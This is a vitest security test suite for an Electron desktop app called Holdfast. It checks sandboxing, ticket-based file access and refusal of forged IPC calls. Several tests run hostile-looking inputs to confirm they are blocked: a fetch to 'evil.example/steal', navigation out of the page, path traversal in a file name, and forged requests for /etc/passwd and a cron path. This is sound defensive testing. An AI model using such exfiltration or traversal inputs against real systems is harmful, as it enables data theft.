import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { utils, write } from 'xlsx';
import type { Item } from './electronStandIn/menu.ts';
import { openWindowDoor, startWindowProcess, type WindowDoor } from './windowDoor.ts';

const home = mkdtempSync(join(tmpdir(), 'holdfast-window-'));
const inHome = (name: string) => join(home, name);
let door: WindowDoor;

beforeAll(async () => {
  door = await openWindowDoor({ home });
});
afterAll(async () => {
  await door?.close();
  rmSync(home, { recursive: true, force: true });
});

const inPage = (expression: string) => door.page.evaluate(expression);
const refused = (code: string) => expect.objectContaining({ code });

test('calls go through page, preload, main and engine, errors included', async () => {
  const project = await door.ticket(inHome('shop.holdfast'), 'save');
  const made = await door.call('project.create', { project, name: '茶 Tea', currency: 'CNY', locale: 'zh-CN' });
  expect(made).toMatchObject({ name: '茶 Tea', fileName: 'shop.holdfast', orders: 0 });
  await expect(door.call('project.open', { file: 'open-nothing' })).rejects.toEqual(refused('ticket.unknown'));
  await expect(door.call('project.info', { project: 7 })).rejects.toEqual(refused('call.badArguments'));
});

test('the page is sandboxed, isolated and without Node', async () => {
  const [main] = await door.wish<{ options: { webPreferences: object } }[]>({ do: 'windows' });
  expect(main?.options.webPreferences).toMatchObject({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    webviewTag: false,
  });
  expect(await door.log('sandbox')).toEqual([true]);
  expect(await inPage('[typeof require, typeof process, typeof module].join()')).toBe('undefined,undefined,undefined');
  expect(await inPage('Object.keys(window.holdfast).sort().join()')).toBe(
    'acceptDropped,acceptPasted,onMenu,openReport,pickFile,pickFiles,pickFolder,pickNewProject,printPdf,saveResult,setLook',
  );
});

test('a file crosses as a ticket and a bare name, never as a path', async () => {
  writeFileSync(inHome('orders.csv'), 'date,customer,amount\n');
  await door.wish({ do: 'answer', dialog: 'open', value: inHome('orders.csv') });
  const picked = await door.host('pickFile', 'import');
  expect(picked).toEqual({ ticket: expect.stringMatching(/^open-/), name: 'orders.csv' });
  await door.wish({ do: 'answer', dialog: 'open', value: null });
  expect(await door.host('pickFile', 'import')).toBeNull();
});

test('several files and a folder cross as tickets and bare names', async () => {
  writeFileSync(inHome('一月, 二月.csv'), 'date,customer,amount\n');
  await door.wish({ do: 'answer', dialog: 'open', value: [inHome('orders.csv'), inHome('一月, 二月.csv')] });
  expect(await door.host('pickFiles')).toEqual([
    { ticket: expect.stringMatching(/^open-/), name: 'orders.csv' },
    { ticket: expect.stringMatching(/^open-/), name: '一月, 二月.csv' },
  ]);
  await door.wish({ do: 'answer', dialog: 'open', value: null });
  expect(await door.host('pickFiles')).toEqual([]);
  mkdirSync(inHome('收件夹'));
  const folder = (value: string | null) =>
    door.wish({ do: 'answer', dialog: 'open', value }).then(() => door.host('pickFolder'));
  expect(await folder(inHome('收件夹'))).toEqual({ ticket: expect.stringMatching(/^open-/), name: '收件夹' });
  expect(await folder(null)).toBeNull();
  await expect(folder(inHome('orders.csv'))).rejects.toEqual(refused('window.notAFolder'));
  expect(await door.log('open dialog')).toEqual(
    expect.arrayContaining([
      expect.objectContaining({ properties: ['openFile', 'multiSelections'] }),
      expect.objectContaining({ properties: ['openDirectory'] }),
    ]),
  );
});

test('a pasted table becomes a file of its own, wherever its name points', async () => {
  await inPage(`window.pasted = testPage.host('acceptDropped', new File(['日期,客户'], '../../表.tsv'))`);
  expect(await inPage('window.pasted')).toEqual({ value: { ticket: expect.stringMatching(/^open-/), name: '表.tsv' } });
  await inPage(`window.pasted = testPage.host('acceptDropped', new File(['x'], 'run.sh'))`);
  expect(await inPage('window.pasted')).toMatchObject({ code: 'window.unknownFile' });
  expect(existsSync(inHome('表.tsv'))).toBe(false);
});

test('no ticket comes of a path that the user did not point at', async () => {
  const secret = inHome('secret.csv');
  writeFileSync(secret, 'date,customer,amount\n');
  for (const given of [
    `"${secret}"`,
    `{ path: "${secret}", name: "secret.csv" }`,
    `Object.assign(new Blob([]), { path: "${secret}" })`,
  ])
    expect(await inPage(`testPage.host('acceptDropped', ${given})`), given).toMatchObject({ code: expect.any(String) });
  const place = await door.ticket(inHome('gate.holdfast'), 'save');
  const made = { project: place, name: 'Gate', currency: 'CNY', locale: 'zh-CN' };
  const opened = (await door.call('project.create', made)) as { project: string };
  await expect(door.call('imports.look', { files: [secret] })).rejects.toEqual(refused('ticket.unknown'));
  await expect(door.call('imports.preview', { file: secret })).rejects.toEqual(refused('ticket.unknown'));
  await expect(door.call('inbox.watch', { project: opened.project, folder: home })).rejects.toEqual(
    refused('ticket.unknown'),
  );
});

test('a dropped file crosses by its real path, and only kinds that Holdfast reads', async () => {
  await inPage(`{
    window.ondragover = (event) => event.preventDefault();
    window.ondrop = (event) => {
      event.preventDefault();
      window.dropped = testPage.host('acceptDropped', event.dataTransfer.files[0]);
    };
  }`);
  const drop = async (path: string) => {
    await door.wish({ do: 'drop', files: [path], x: 50, y: 50 });
    return inPage('window.dropped');
  };
  writeFileSync(inHome('客户.xlsx'), 'x');
  writeFileSync(inHome('key.pem'), 'x');
  expect(await drop(inHome('客户.xlsx'))).toEqual({ value: { ticket: expect.any(String), name: '客户.xlsx' } });
  expect(await drop(inHome('key.pem'))).toMatchObject({ code: 'window.unknownFile' });
  await expect(door.host('acceptDropped', {})).rejects.toEqual(refused('window.refused'));
});

test('a result is saved where the user wants it, but never over a project', async () => {
  writeFileSync(inHome('result.csv'), '\ufeffa,b\n');
  const ticket = await door.ticket(inHome('result.csv'), 'open');
  const save = (target: string | null) =>
    door.wish({ do: 'answer', dialog: 'save', value: target }).then(() => door.host('saveResult', ticket, 'a/b:c.csv'));
  expect(await save(inHome('copy.csv'))).toBe(true);
  expect(readFileSync(inHome('copy.csv'), 'utf8')).toBe('\ufeffa,b\n');
  expect(await save(null)).toBe(false);
  await expect(save(inHome('shop.holdfast'))).rejects.toEqual(refused('window.notOverProject'));
  await expect(save(inHome('missing/copy.csv'))).rejects.toEqual(refused('window.cannotSave'));
  expect(await door.log('save dialog')).toContainEqual(
    expect.objectContaining({ defaultPath: expect.stringMatching(/abc\.csv$/) }),
  );
});

test('old workbooks are read in a child process that the shell starts', async () => {
  const sheet = utils.aoa_to_sheet([
    ['日期', '客户', '金额'],
    ['2024-03-05', '张三', 12.5],
    ['2024-03-06', '李四', 8],
  ]);
  writeFileSync(
    inHome('订单.xls'),
    write({ SheetNames: ['订单'], Sheets: { 订单: sheet } }, { type: 'buffer', bookType: 'xls' }),
  );
  const file = await door.ticket(inHome('订单.xls'), 'open');
  const preview = await door.call('imports.preview', { file });
  expect(preview).toMatchObject({ sheets: [{ name: '订单' }] });
  expect(await door.log('utility process')).toEqual([expect.stringMatching(/readerChild\.(ts|js)$/)]);
});

test('a report is shown without scripts and printed to PDF', async () => {
  writeFileSync(
    inHome('report.html'),
    '<!doctype html><title>报告</title><style>@page{size:A4}</style><h1>流失报告</h1><script>document.title="ran"</script>' +
      '<img src="https://tracker.example/x.png">',
  );
  const ticket = await door.ticket(inHome('report.html'), 'open');
  await door.host('openReport', ticket, '流失报告');
  const shown = (
    await door.wish<{ url: string; visible: boolean; options: { title: string; webPreferences: object } }[]>({
      do: 'windows',
    })
  ).at(-1);
  expect(shown).toMatchObject({ visible: true, options: { title: '流失报告', webPreferences: { javascript: false } } });
  expect(shown?.url).toMatch(/^app:\/\/report\/[0-9a-f-]{36}$/);

  await door.wish({ do: 'answer', dialog: 'save', value: inHome('report.pdf') });
  expect(await door.host('printPdf', ticket, '报告.html')).toBe(true);
  expect(readFileSync(inHome('report.pdf')).subarray(0, 5).toString()).toBe('%PDF-');
  const csv = await door.ticket(inHome('orders.csv'), 'open');
  await expect(door.host('openReport', csv, 'x')).rejects.toEqual(refused('window.notAReport'));

  await door.wish({ do: 'choose', id: 'print' });
  expect(await door.log('print')).toHaveLength(1);
});

test('nothing leads out of the page', async () => {
  await inPage('void (window.onclick = () => window.open("https://evil.example/", "_blank"))');
  await door.page.mouse.click(300, 300);
  await expect.poll(() => door.log('window.open')).toEqual([{ action: 'deny' }]);
  await inPage('void (window.onclick = null)');
  await inPage('void (location.href = "https://evil.example/away")');
  await inPage('fetch("https://evil.example/steal").catch(() => 0)');
  await inPage(
    `void document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/frame' }))`,
  );
  await expect.poll(() => door.log('navigation refused')).toContain('https://evil.example/away');
  expect(await door.log('request to the network')).toEqual([]);
  expect(await inPage('document.title')).toBe('ready');
});

test('permissions are denied, but for copying and telling the desktop from our own page', async () => {
  expect(await inPage('navigator.permissions.query({ name: "geolocation" }).then((p) => p.state)')).toBe('denied');
  const may = (permission: string, origin: string) => door.wish({ do: 'permission', permission, origin });
  for (const permission of ['geolocation', 'media', 'clipboard-read', 'hid', 'fileSystem'])
    expect(await may(permission, 'app://holdfast/'), permission).toBe(false);
  for (const permission of ['clipboard-sanitized-write', 'notifications']) {
    expect(await may(permission, 'app://holdfast/'), permission).toBe(true);
    expect(await may(permission, 'https://evil.example/'), permission).toBe(false);
  }
});

test('a frame inside the page is not listened to', async () => {
  await inPage(`new Promise((done) => {
    const frame = Object.assign(document.createElement('iframe'), { sandbox: 'allow-scripts', srcdoc: '<p>guest' });
    frame.addEventListener('load', done);
    document.body.append(frame);
  })`);
  const forge = (how: 'send' | 'invoke', channel: string, args: unknown[]) =>
    door.wish({ do: 'forge', from: 'child', how, channel, args });
  const before = await door.wish<{ ports: number }>({
    do: 'forge',
    from: 'child',
    how: 'send',
    channel: 'none',
    args: [],
  });
  expect(await forge('invoke', 'holdfast:host', ['pickFile', ['import']])).toMatchObject({ code: 'window.refused' });
  expect(await forge('send', 'holdfast:port', [])).toEqual({ origin: 'null', ports: before.ports });
  await forge('send', 'holdfast:look', [{ theme: 'dark', locale: 'zh-CN' }]);
  expect(labels(await door.wish<Item[]>({ do: 'menu' }))).toContain('File');
});

test('what the page sends is checked', async () => {
  const forge = (channel: string, args: unknown[]) =>
    door.wish({ do: 'forge', from: 'main', how: 'invoke', channel, args });
  for (const args of [
    ['toString', []],
    ['pickFile', ['anything']],
    ['pickFile', []],
    ['pickFiles', ['/etc']],
    ['pickFolder', ['/etc']],
    ['acceptPasted', ['x.tsv', { path: '/etc/passwd' }]],
    ['acceptPasted', ['x.tsv', 'a', '/etc']],
    ['saveResult', [{ path: '/etc/passwd' }, 'x']],
    ['grant', ['/etc/passwd', 'open']],
    [null, null],
  ])
    expect(await forge('holdfast:host', args), JSON.stringify(args)).toMatchObject({ code: 'window.refused' });
  expect(await forge('holdfast:host', ['acceptPasted', ['/etc/cron.d/run', 'x']])).toMatchObject({ kind: 'refused' });
  for (const path of ['', '/etc/passwd', home, inHome('nowhere.csv'), 'relative.txt'])
    expect(await forge('holdfast:host', ['acceptDropped', [path]]), path).toMatchObject({ kind: 'refused' });
});

const flat = (items: Item[]): Item[] => items.flatMap((item) => [item, ...flat(item.submenu ?? [])]);
const labels = (items: Item[]) => flat(items).flatMap((item) => item.label ?? []);

test('the menu speaks the language of the page and passes on what is chosen', async () => {
  const english = await door.wish<Item[]>({ do: 'menu' });
  await door.host('setLook', { theme: 'dark', locale: 'zh-CN' });
  await expect.poll(async () => labels(await door.wish<Item[]>({ do: 'menu' }))).toContain('文件');
  const chinese = await door.wish<Item[]>({ do: 'menu' });
  expect(labels(chinese)).toHaveLength(labels(english).length);
  expect(
    flat(chinese)
      .filter(({ checked }) => checked)
      .map(({ id }) => id),
  ).toEqual(['theme.dark', 'language.zh-CN']);
  expect(await inPage('matchMedia("(prefers-color-scheme: dark)").matches')).toBe(true);

  await door.wish({ do: 'choose', id: 'openProject' });
  await door.wish({ do: 'choose', id: 'go.churn' });
  await expect
    .poll(() => inPage('testPage.heard'))
    .toEqual(expect.arrayContaining([{ kind: 'openProject' }, { kind: 'screen', screen: 'churn' }]));
  await door.host('setLook', { theme: 'system', locale: 'en' });
});

test('a second start hands its file to the first and leaves', async () => {
  const second = await startWindowProcess({ home, args: [inHome('shop.holdfast')] });
  const code = await new Promise((done) => second.on('exit', done));
  expect(code).toBe(0);
  await door.wish({ do: 'mailbox' });
  await expect
    .poll(() => inPage('testPage.heard'))
    .toContainEqual({ kind: 'openFile', file: { ticket: expect.any(String), name: 'shop.holdfast' } });
  expect(await door.log('recent')).toContain(inHome('shop.holdfast'));
});

test('a file opened from the desktop reaches the page', async () => {
  await door.wish({ do: 'openFile', path: inHome('orders.csv') });
  await expect
    .poll(() => inPage('testPage.heard'))
    .toContainEqual({ kind: 'openFile', file: { ticket: expect.any(String), name: 'orders.csv' } });
  await door.wish({ do: 'openFile', path: inHome('gone.holdfast') });
  await expect.poll(() => door.log('error')).toHaveLength(1);
});

test('a page that refuses to be left is asked about, and the engine ends with the window', async () => {
  await inPage('void addEventListener("beforeunload", (event) => event.preventDefault())');
  await door.page.mouse.click(5, 5);
  await door.wish({ do: 'answer', dialog: 'message', value: 0 });
  await door.wish({ do: 'close' });
  await expect.poll(() => door.log('asked before leaving')).toEqual([{ leaves: false }]);
  expect(await inPage('document.title')).toBe('ready');
  await door.wish({ do: 'answer', dialog: 'message', value: 1 });
  await door.wish({ do: 'close' });
  expect(await door.ended).toBe(0);
  expect(existsSync(inHome('shop.holdfast-wal'))).toBe(false);
  expect(JSON.parse(readFileSync(inHome('data/window.json'), 'utf8'))).toMatchObject({ locale: 'en', theme: 'system' });
});

test('a page that got somewhere else is given nothing', async () => {
  const away = await openWindowDoor({ home: inHome('away') });
  try {
    const forge = (how: 'send' | 'invoke') =>
      away.wish({ do: 'forge', from: 'main', how, channel: 'holdfast:host', args: ['pickFile', ['import']] });
    expect(await away.wish({ do: 'forge', from: 'main', how: 'send', channel: 'none', args: [] })).toMatchObject({
      origin: 'app://holdfast',
      ports: 1,
    });
    await away.wish({ do: 'breakOut', url: 'data:text/html,<title>elsewhere</title>' });
    await away.page.waitForFunction(() => document.title === 'elsewhere');
    const given = await away.page.evaluate(async () => {
      let ports = 0;
      window.addEventListener('message', (event) => {
        ports += event.ports.length;
      });
      window.postMessage('holdfast:port-wanted', '*');
      await new Promise((done) => setTimeout(done, 300));
      return ports;
    });
    expect(given).toBe(0);
    expect(await forge('invoke')).toMatchObject({ code: 'window.refused' });
    // The wire of the page that was there before is cut.
    expect(await forge('send')).toMatchObject({ ports: 0 });
  } finally {
    await away.close();
  }
});
